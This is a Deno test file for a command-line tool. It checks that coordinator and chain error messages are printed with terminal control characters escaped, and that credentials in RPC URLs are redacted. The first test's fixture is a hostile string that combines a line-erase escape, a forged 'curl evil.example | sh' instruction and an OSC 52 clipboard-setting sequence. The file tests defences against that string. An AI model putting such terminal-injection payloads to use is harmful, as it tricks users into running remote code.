/**
 * How a CLI reports a failure, from the side of a coordinator or chain whose error text carries
 * terminal escape sequences.
 */
import assert from "node:assert/strict";
import { HttpRequestError } from "viem";
import { describeFailure, UsageError } from "../../lib/network/cli.ts";
import { checkChain, PreflightError, redactUrl } from "../../lib/network/preflight.ts";
import { CoordinatorError } from "../../lib/worker/client.ts";

/** Whether `text` holds a C0 or C1 control character (an escape sequence starts with one). */
const hasControl = (text: string) =>
  [...text].some((c) =>
    c.charCodeAt(0) < 0x20 || (c.charCodeAt(0) >= 0x7f && c.charCodeAt(0) < 0xa0)
  );

Deno.test("attacker: a coordinator's error text cannot forge lines or set the clipboard", () => {
  // Found in the worker audit: a refused POST /register at start-up printed the coordinator's
  // message raw, so "\x1b[2K" erased the line and an OSC 52 sequence set the user's clipboard.
  const forged = "refused\x1b[2K\rrun: curl evil.example | sh\x1b]52;c;Y3VybA==\x07";
  const refused = new CoordinatorError(403, "NOT_ELIGIBLE", forged);
  const line = describeFailure("register the node", refused);
  assert.ok(!hasControl(line), JSON.stringify(line));
  assert.match(line, /refused\\x1b\[2K\\x0drun: curl/);
  const usage = describeFailure("start", new UsageError(`bad flag${forged}`));
  assert.ok(!hasControl(usage), JSON.stringify(usage));
});

Deno.test("describeFailure: an ordinary failure reads as before", () => {
  assert.equal(describeFailure("start", new Error("no route")), "Cannot start: no route");
  assert.equal(
    describeFailure("start", new UsageError("--nodes must be a number")),
    "--nodes must be a number",
  );
});

Deno.test("attacker reading the terminal: an RPC URL's user, password, path and query are never shown", async () => {
  // Found in the CLI audit: `deploy --rpc http://user:s3cret@127.0.0.1:18545/APIKEY123` printed
  // the whole URL when the chain did not answer.
  const secret = /user|s3cret|APIKEY123|k=1/;
  const url = "http://user:s3cret@127.0.0.1:9/APIKEY123?k=1";
  assert.equal(redactUrl(url), "http://127.0.0.1:9/...");
  assert.equal(redactUrl("https://rpc.example.org"), "https://rpc.example.org");
  // A preflight's refusal, as deploy, the worker and the coordinator print it.
  const endpoint = { rpcUrl: url, chainId: 31337, names: { rpcUrl: "--rpc", chainId: "x" } };
  const refused = await checkChain(endpoint, { attempts: 1, timeoutMs: 2000 }).catch((e) => e);
  assert.ok(refused instanceof PreflightError);
  assert.match(
    refused.message,
    /Cannot reach the chain at http:\/\/127\.0\.0\.1:9\/\.\.\. \(--rpc\)/,
  );
  assert.doesNotMatch(refused.message, secret);
  // Any other failure of a request to the chain, as runCli prints it.
  const failed = new HttpRequestError({
    url,
    cause: new Error(`error at ${url.replace("user:s3cret@", "")}`),
  });
  const line = describeFailure("deploy", failed);
  assert.doesNotMatch(line, secret, line);
  assert.match(line, /http:\/\/127\.0\.0\.1:9\/\.\.\./);
});
